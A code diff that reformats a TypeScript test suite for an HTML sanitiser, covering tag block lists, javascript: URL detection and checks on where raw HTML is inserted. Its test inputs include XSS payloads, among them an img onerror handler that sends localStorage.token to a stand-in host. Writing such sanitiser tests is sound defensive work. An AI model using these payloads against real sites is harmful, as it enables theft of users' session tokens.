@@ -18,7 +18,24 @@ function parsed(html: string): Element {
   return holder;
 }
 
-const DANGEROUS_TAGS = ['script', 'style', 'iframe', 'frame', 'object', 'embed', 'link', 'meta', 'base', 'form', 'input', 'button', 'svg', 'math', 'template', 'textarea'];
+const DANGEROUS_TAGS = [
+  'script',
+  'style',
+  'iframe',
+  'frame',
+  'object',
+  'embed',
+  'link',
+  'meta',
+  'base',
+  'form',
+  'input',
+  'button',
+  'svg',
+  'math',
+  'template',
+  'textarea',
+];
 const URL_ATTRIBUTES = ['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'poster', 'background'];
 
 /** Everything found in the sanitised HTML that could run script or load something other than an image or a link. */
@@ -33,7 +50,8 @@ function hazards(html: string): string[] {
       if (name === 'style' || name === 'srcset') found.push(`${tag}[${name}]`);
       // eslint-disable-next-line no-control-regex
       const value = attribute.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
-      if (URL_ATTRIBUTES.includes(name) && /^(javascript|vbscript|data:text|data:application)/.test(value)) found.push(`${tag}[${name}=${value.slice(0, 20)}]`);
+      if (URL_ATTRIBUTES.includes(name) && /^(javascript|vbscript|data:text|data:application)/.test(value))
+        found.push(`${tag}[${name}=${value.slice(0, 20)}]`);
     }
   }
   return found;
@@ -100,18 +118,24 @@ describe('operator HTML sanitiser', () => {
   });
 
   it('given the script-bearing image of the finding, then the image stays without its handler', () => {
-    const safe = sanitize('<b>Gleich</b> geht es los <img src=x onerror="fetch(\'//x/\'+localStorage.token)"><script>alert(1)</script>');
+    const safe = sanitize(
+      '<b>Gleich</b> geht es los <img src=x onerror="fetch(\'//x/\'+localStorage.token)"><script>alert(1)</script>',
+    );
     expect(safe).toBe('<b>Gleich</b> geht es los <img>');
   });
 
   it('given formatting and links, then they stay (links open in a new tab without opener)', () => {
     const html = '<h3>Pause</h3><p>Weiter um <b>21 Uhr</b>, <i>bis gleich</i>!</p><ul><li>Eins</li></ul>';
     expect(sanitize(html)).toBe(html);
-    expect(sanitize('<a href="https://example.org/x">Regeln</a>')).toBe('<a href="https://example.org/x" target="_blank" rel="noopener noreferrer">Regeln</a>');
+    expect(sanitize('<a href="https://example.org/x">Regeln</a>')).toBe(
+      '<a href="https://example.org/x" target="_blank" rel="noopener noreferrer">Regeln</a>',
+    );
   });
 
   it('given no DOM (server-side rendering), then only the text is given, escaped', () => {
-    expect(sanitizeOperatorHtml('<b>Heute</b> <img src=x onerror=alert(1)>später & "so"')).toBe('Heute später &#38; &#34;so&#34;');
+    expect(sanitizeOperatorHtml('<b>Heute</b> <img src=x onerror=alert(1)>später & "so"')).toBe(
+      'Heute später &#38; &#34;so&#34;',
+    );
   });
 
   it('only components/OperatorHtml.tsx inserts HTML into the page', () => {
@@ -121,7 +145,11 @@ describe('operator HTML sanitiser', () => {
       for (const name of readdirSync(dir)) {
         const file = path.join(dir, name);
         if (statSync(file).isDirectory()) visit(file);
-        else if (/\.tsx?$/.test(name) && /dangerouslySetInnerHTML|\.innerHTML\s*=|insertAdjacentHTML/.test(readFileSync(file, 'utf8'))) inserting.push(path.relative(root, file));
+        else if (
+          /\.tsx?$/.test(name) &&
+          /dangerouslySetInnerHTML|\.innerHTML\s*=|insertAdjacentHTML/.test(readFileSync(file, 'utf8'))
+        )
+          inserting.push(path.relative(root, file));
       }
     };
     visit(root);
